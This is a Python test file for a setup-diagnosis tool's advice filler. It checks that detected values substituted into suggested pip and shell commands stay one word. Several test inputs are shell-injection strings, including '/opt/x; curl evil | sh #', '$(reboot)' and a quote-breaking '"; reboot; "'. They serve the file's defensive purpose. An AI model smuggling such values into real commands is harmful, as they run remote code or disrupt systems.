from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flashdoctor.engine.advice import fill
from flashdoctor.model import snapshot
from flashdoctor.model.facts import known
from flashdoctor.model.rule import Fix

STATED = snapshot.of([known("torch.version", "2.6.0+cu124", "x")])


def test_values_are_filled_in_without_their_local_tag() -> None:
    fix = Fix(text="Keep torch {torch.version}.", commands=("pip install torch=={torch.version}",))
    advice = fill(fix, STATED, {})
    assert advice.text == "Keep torch 2.6.0."
    assert advice.commands == ("pip install torch==2.6.0",)


def test_a_command_with_an_unknown_value_is_left_out() -> None:
    fix = Fix(text="Text.", commands=("pip install vllm=={vllm.version}", "nvidia-smi"))
    assert fill(fix, STATED, {}).commands == ("nvidia-smi",)


def test_what_a_check_computed_wins() -> None:
    fix = Fix(text="Text.", commands=("pip install torch --index-url .../{advice.index}",))
    advice = fill(fix, STATED, {"advice.index": "cu126"})
    assert advice.commands == ("pip install torch --index-url .../cu126",)


@pytest.mark.parametrize(
    "path", ["/opt/x; curl evil | sh #", "$(reboot)", "`reboot`", "a b", "x\ny", "it's", "a&b"]
)
def test_a_value_never_becomes_more_than_one_word(path: str) -> None:
    stated = snapshot.of([known("python.executable", path, "x")])
    fix = Fix(text="Text.", commands=("{python.executable} -m pip install torch",))
    (command,) = fill(fix, stated, {}).commands
    assert shlex.split(command) == [path, "-m", "pip", "install", "torch"]


def test_a_home_folder_still_expands() -> None:
    stated = snapshot.of([known("python.executable", "~/venv/bin/python", "x")])
    fix = Fix(text="Text.", commands=("{python.executable} -m pip list",))
    assert fill(fix, stated, {}).commands == ("~/venv/bin/python -m pip list",)


def test_a_value_that_would_end_the_quotes_drops_its_command() -> None:
    fix = Fix(text="Text.", commands=('pip install "transformers{advice.pin}"',))
    kept = fill(fix, STATED, {"advice.pin": "<5,>=4.56.0"})
    assert kept.commands == ('pip install "transformers<5,>=4.56.0"',)
    assert fill(fix, STATED, {"advice.pin": '"; reboot; "'}).commands == ()
    assert fill(fix, STATED, {"advice.pin": "$(reboot)"}).commands == ()


@given(st.text(max_size=20))
def test_no_text_adds_a_word_or_an_operator(text: str) -> None:
    stated = snapshot.of([known("driver.libcuda_path", text, "x")])
    fix = Fix(text="Text.", commands=("ls {driver.libcuda_path} end",))
    for command in fill(fix, stated, {}).commands:
        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        assert list(lexer)[-1] == "end"
        assert len(shlex.split(command)) in {2, 3}
